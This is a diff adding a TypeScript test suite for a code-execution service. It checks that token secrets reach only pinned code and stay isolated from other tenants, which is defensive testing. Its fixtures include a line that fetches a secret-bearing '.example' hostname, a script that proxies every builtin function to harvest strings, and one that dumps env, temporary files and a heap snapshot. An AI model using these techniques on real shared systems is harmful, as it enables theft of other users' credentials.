@@ -1,0 +1,272 @@
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import { readdir, readFile, stat } from "node:fs/promises";
+import path from "node:path";
+import { after, before, describe, it } from "node:test";
+
+import { type CodeServer, serveCode } from "./code-server.ts";
+import type { Answer } from "./http.ts";
+import { assertProblem } from "./problem.ts";
+import { type Home, leave, makeHome, type Service, startService } from "./service.ts";
+
+/** In no other text. */
+const SECRET = "hunter2-8d1f0a6c";
+const DIGEST = createHash("sha256").update(SECRET).digest("hex");
+
+let home: Home;
+let server: CodeServer;
+let service: Service;
+const texts = new Map<string, string>();
+
+before(async () => {
+  server = await serveCode((request, response) => response.end(texts.get(request.url!)));
+  home = await makeHome();
+  service = await start();
+});
+after(async () => {
+  await leave(service, home);
+  await server.close();
+});
+
+function start(): Promise<Service> {
+  const flags = ["--egress-allow", server.address, "--token-containers", "100", "--log-level", "debug"];
+  // To look through a whole heap takes long on a busy machine.
+  flags.push("--block-limit", "60s", "--wall-limit", "120s");
+  return startService(flags, home);
+}
+
+/** A token that runs what the server gives at that path, with these secrets. */
+async function pinned(name: string, text: string, claims: object = {}): Promise<{ token: string; jti: string }> {
+  texts.set(`/${name}`, text);
+  const members = { containers: ["*"], code: { url: `${server.url}/${name}` }, secrets: { KEY: SECRET }, ...claims };
+  const answer = await service.request("POST", "/api/tokens", { json: members });
+  assert.equal(answer.status, 201, answer.text);
+  return answer.json() as { token: string; jti: string };
+}
+
+function ask(container: string, token: string, options: object = {}): Promise<Answer> {
+  return service.request("POST", `/api/run/${container}`, { token, ...options });
+}
+
+function put(jti: string, json: unknown, token: string = service.admin): Promise<Answer> {
+  return service.request("PUT", `/api/tokens/${jti}/secrets`, { json, token });
+}
+
+describe("the secrets of a token", () => {
+  it("are given to the code that it is pinned to, by every shape that has a context", async () => {
+    const codes = {
+      function: "(context) => context.secrets",
+      callback: "module.exports = function (context, cb) { cb(null, context.secrets) }",
+      node: "module.exports = (context, req, res) => res.end(JSON.stringify(context.secrets))",
+      fetch: "export default { fetch: (request, env) => Response.json({ KEY: env.KEY, B: env.B, plan: env.plan }) }",
+    };
+    for (const [name, code] of Object.entries(codes)) {
+      const { token } = await pinned(name, code, { secrets: { KEY: SECRET, B: "2" }, params: { plan: "pro" } });
+      const plan = name === "fetch" ? { plan: "pro" } : {};
+      assert.deepEqual((await ask("shapes", token)).json(), { KEY: SECRET, B: "2", ...plan }, name);
+    }
+  });
+
+  it("are given beside data, and win over no param and no data: they have a place of their own", async () => {
+    const { token } = await pinned("beside", "(c) => [c.secrets, c.params, c.data, Object.keys(c)]", {
+      params: { KEY: "readable" },
+    });
+    const [secrets, params, data] = (await ask("beside", token, { json: { KEY: "mine" } })).json() as object[];
+    assert.deepEqual([secrets, params, data], [{ KEY: SECRET }, { KEY: "readable" }, { KEY: "readable" }]);
+  });
+
+  it("are given to code that is supplied, where it is the code that was pinned", async () => {
+    const code = "(context) => context.secrets.KEY";
+    const sha256 = createHash("sha256").update(code).digest("hex");
+    const { token } = await pinned("supplied", code, { code: { sha256 } });
+    assert.equal((await ask("supplied", token, { body: code })).json(), SECRET);
+    const other = await ask("supplied", token, { body: "(context) => context.secrets" });
+    assertProblem(other, 400, "code_pinned");
+  });
+
+  it("are for free code only where that is said in as many words", async () => {
+    const claims = { containers: ["*"], secrets: { KEY: SECRET } };
+    const answer = await service.request("POST", "/api/tokens", { json: claims });
+    assert.match(assertProblem(answer, 400, "request_invalid").detail, /secretsReadable: true/);
+    const readable = await service.issue({ ...claims, secretsReadable: true });
+    const free = await service.issue({ containers: ["*"] });
+    const code = "(context) => context.secrets.KEY ?? null";
+    assert.equal((await ask("readable", readable, { body: code })).json(), SECRET);
+    assert.equal((await ask("readable", free, { body: code })).json(), null);
+  });
+
+  it("are in no answer, no listing, no log and no file", async () => {
+    const throws = `(c) => {
+      console.log("logged", c.secrets.KEY, { deep: c.secrets });
+      if (c.query.how === "later") { setTimeout(() => { throw new Error("later " + c.secrets.KEY); }, 5); return 1; }
+      if (c.query.how === "connect") return fetch("http://" + c.secrets.KEY + ".example/");
+      if (c.query.how === "stream") return new Response(new ReadableStream({ pull() { throw new Error(c.secrets.KEY) } }));
+      const error = new Error("failed with " + c.secrets.KEY, { cause: new Error(c.secrets.KEY) });
+      error.config = error.own = { key: c.secrets.KEY };
+      error[c.secrets.KEY] = 1;
+      throw error;
+    }`;
+    const { token, jti } = await pinned("throws", throws);
+    const answers: Answer[] = [];
+    for (const how of ["throw", "connect", "stream", "later"])
+      answers.push(await ask("throws", token, { query: { how } }));
+    assert.match(assertProblem(answers[0]!, 500, "task_threw").detail, /\[secret\]/);
+    await service.logLine((line) => line.includes("logged [secret]"));
+    await service.logLine((line) => line.includes("later [secret]"));
+    const admin = ["/api/tokens", `/api/tokens/${jti}`, "/api/tokens?limit=1000", "/api/containers"];
+    for (const target of admin) answers.push(await service.request("GET", target));
+    answers.push(await service.request("GET", `/api/tokens/${jti}/secrets`));
+    const form = { "content-type": "application/x-www-form-urlencoded" };
+    const body = `token=${token}`;
+    answers.push(await service.request("POST", "/api/tokens/introspect", { body, headers: form }));
+    for (const answer of answers) assert.ok(!answer.text.includes(SECRET), answer.text);
+    assert.ok(!Buffer.from(token.split(".")[1]!, "base64url").includes(SECRET));
+    assert.ok(!service.stderr().includes(SECRET) && !service.stdout().includes(SECRET));
+    for (const name of await readdir(service.data, { recursive: true })) {
+      const file = path.join(service.data, name);
+      if ((await stat(file)).isFile()) assert.ok(!(await readFile(file)).includes(SECRET), name);
+    }
+    for (const name of ["secrets.key", "secrets.sqlite"]) {
+      assert.equal((await stat(path.join(service.data, name))).mode & 0o777, 0o600);
+    }
+  });
+
+  it("are not repeated in the answer to a request that is refused", async () => {
+    const wrong = [{ KEY: [SECRET] }, [SECRET], { "no name": SECRET }, { KEY: SECRET.repeat(2_000) }, SECRET];
+    for (const secrets of wrong) {
+      const json = { containers: ["*"], secretsReadable: true, secrets };
+      const answer = await service.request("POST", "/api/tokens", { json });
+      assertProblem(answer, 400, "request_invalid");
+      assert.ok(!answer.text.includes(SECRET));
+    }
+  });
+
+  it("are there after a restart", async () => {
+    const { token } = await pinned("restart", "(context) => context.secrets.KEY");
+    await service.stop();
+    service = await start();
+    assert.equal((await ask("restart", token)).json(), SECRET);
+  });
+});
+
+describe("PUT /api/tokens/{jti}/secrets", () => {
+  const code = "(c) => [c.secrets, globalThis.turn = (globalThis.turn ?? 0) + 1]";
+  it("replaces them without a new token, and what was kept of the old ones is gone", async () => {
+    const { token, jti } = await pinned("put", code);
+    assert.deepEqual((await ask("put", token)).json(), [{ KEY: SECRET }, 1]);
+    assert.deepEqual((await ask("put", token)).json(), [{ KEY: SECRET }, 2]);
+    const answer = await put(jti, { OTHER: "new-value" });
+    assert.deepEqual([answer.status, answer.json()], [200, { jti, replaced: true }]);
+    assert.deepEqual((await ask("put", token)).json(), [{ OTHER: "new-value" }, 1]);
+    await put(jti, {});
+    assert.deepEqual((await ask("put", token)).json(), [{}, 1]);
+    const line = await service.logLine((text) => text.includes("secrets replaced"));
+    assert.ok(line.includes(jti) && !line.includes("new-value"));
+  });
+
+  it("is for administrators and the tokens above, not for the token itself and for others", async () => {
+    const claims = { containers: ["*"], can: ["run", "issue"], depth: 2 };
+    const head = await service.issue(claims);
+    texts.set("/above", code);
+    const members = { containers: ["a"], code: { url: `${server.url}/above` } };
+    const issued = await service.request("POST", "/api/tokens", { token: head, json: members });
+    const { token, jti } = issued.json() as { token: string; jti: string };
+    assert.equal((await put(jti, { KEY: "1" }, head)).status, 200);
+    assert.deepEqual((await ask("a", token)).json(), [{ KEY: "1" }, 1]);
+    for (const other of [token, await service.issue(claims)]) {
+      assertProblem(await put(jti, { KEY: "2" }, other), 403, "token_forbidden");
+    }
+    assertProblem(await put("7b0d6f4e-3c55-4b61-9a7f-1f4a1c2d3e4f", {}, head), 403, "token_forbidden");
+    assertProblem(await put("7b0d6f4e-3c55-4b61-9a7f-1f4a1c2d3e4f", {}), 404, "not_found");
+    assert.deepEqual((await ask("a", token)).json(), [{ KEY: "1" }, 2]);
+  });
+
+  it("refuses what is wrong, and what would be kept for nothing", async () => {
+    const { jti } = await pinned("wrong", code);
+    for (const json of [null, [], { KEY: 1 }, { "a b": "x" }, "text"]) {
+      assertProblem(await put(jti, json), 400, "request_invalid");
+    }
+    const answer = await service.request("POST", "/api/tokens", { json: { containers: ["a"] } });
+    const free = (answer.json() as { jti: string }).jti;
+    assert.match(assertProblem(await put(free, { A: "1" }), 400, "request_invalid").detail, /free code/);
+    await service.request("DELETE", `/api/tokens/${jti}`);
+    assert.match(assertProblem(await put(jti, { A: "1" }), 400, "request_invalid").detail, /was revoked/);
+    assertProblem(await service.request("GET", `/api/tokens/${jti}/secrets`), 405, "method_not_allowed");
+  });
+});
+
+describe("a second token of the same container that poisons every global it can reach", () => {
+  /** Uses what a poisoned guest would have replaced, and answers without the secret. */
+  const victim = `const { createHash } = require("node:crypto");
+    module.exports = async (context) => {
+      if (context.query.look) return [globalThis.left ?? null, process.env.LEFT ?? null, require("node:fs").readdirSync("/tmp").length];
+      const { KEY } = context.secrets;
+      await new Promise((end) => setTimeout(end, 5, KEY));
+      const seen = JSON.parse(JSON.stringify({ KEY, list: [...[KEY]].map(String), of: Object.assign({}, { KEY }) }));
+      globalThis.left = seen; process.env.LEFT = KEY; require("node:fs").writeFileSync("/tmp/left", KEY);
+      return createHash("sha256").update(Buffer.from(seen.KEY)).digest("hex");
+    }`;
+  /** Puts a listener in the place of every function that can be replaced, and keeps what it hears. */
+  const poisons = `const loot = (globalThis.loot ??= []);
+    const { apply, ownKeys, getOwnPropertyDescriptor: look, defineProperty } = Reflect;
+    const hear = (what) => { try { if (typeof what === "string") loot.push(what); } catch {} };
+    const seen = new Set([loot]);
+    const walk = (owner, depth) => {
+      if (owner === null || (typeof owner !== "object" && typeof owner !== "function") || seen.has(owner) || depth > 4) return;
+      seen.add(owner);
+      for (const key of ownKeys(owner)) {
+        let found;
+        try { found = look(owner, key); } catch { continue; }
+        if (!found || !("value" in found)) continue;
+        walk(found.value, depth + 1);
+        if (typeof found.value !== "function" || !found.configurable) continue;
+        const real = found.value;
+        const spy = new Proxy(real, { apply(_, self, words) {
+          hear(self); for (let at = 0; at < words.length; at++) hear(words[at]);
+          const result = apply(real, self, words); hear(result); return result;
+        } });
+        try { defineProperty(owner, key, { ...found, value: spy }); } catch {}
+      }
+    };
+    for (const name of require("node:module").builtinModules) try { walk(require(name), 0); } catch {}
+    walk(globalThis, 0);
+    Object.defineProperty(Object.prototype, "KEY", { set(value) { hear(value); }, get() { return "poison"; }, configurable: true });
+    return 1`;
+  /** All that the attacker can look at. */
+  const looks = `const fs = require("node:fs");
+    const found = [globalThis.loot, globalThis.left, process.env, process.title, process.argv].map((each) => require("node:util").inspect(each, { depth: 9 }));
+    for (const name of fs.readdirSync("/tmp")) found.push(fs.readFileSync("/tmp/" + name, "latin1"));
+    const file = require("node:v8").writeHeapSnapshot("/tmp/heap");
+    found.push(fs.readFileSync(file, "latin1"));
+    return found.join().includes(["hunter2", "8d1f0a6c"].join("-"))`;
+
+  it("gets nothing, whether it comes before, between or after, and whatever becomes of its own answers", async () => {
+    const { token } = await pinned("victim", victim);
+    const attacker = await service.issue({ containers: ["*"] });
+    const run = (code: string): Promise<Answer> => service.run("shared", code, { token: attacker });
+    for (let round = 0; round < 3; round++) {
+      await run(poisons);
+      assert.equal((await ask("shared", token)).text, JSON.stringify(DIGEST));
+      const asked = [ask("shared", token), run(poisons), ask("shared", token), run(poisons)];
+      const answers = await Promise.all(asked);
+      for (const at of [0, 2]) assert.equal(answers[at]!.text, JSON.stringify(DIGEST));
+      for (const at of [1, 3]) assert.ok(!answers[at]!.text.includes(SECRET));
+      // Its own tools may be so broken that it sees nothing at all; then with new ones.
+      const seen = await run(looks);
+      assert.ok(seen.text === "false" || seen.status >= 400, seen.text);
+    }
+    const other = await service.issue({ containers: ["*"], net: false });
+    assert.equal((await service.run("shared", looks, { token: other })).text, "false");
+  });
+
+  it("gets nothing either when it is pinned to the same code, or may have secrets of its own", async () => {
+    const { token } = await pinned("victim", victim);
+    assert.equal((await ask("same", token)).text, JSON.stringify(DIGEST));
+    const same = await pinned("victim", victim, { secrets: { KEY: "of my own" } });
+    assert.equal((await ask("same", same.token, { query: { look: "1" } })).text, "[null,null,0]");
+    const readable = await service.issue({ containers: ["*"], secretsReadable: true, secrets: { KEY: "of my own" } });
+    assert.equal((await service.run("same", looks, { token: readable })).text, "false");
+    const fresh = await service.issue({ containers: ["*"], fresh: true });
+    assert.equal((await service.run("same", looks, { token: fresh })).text, "false");
+  });
+});
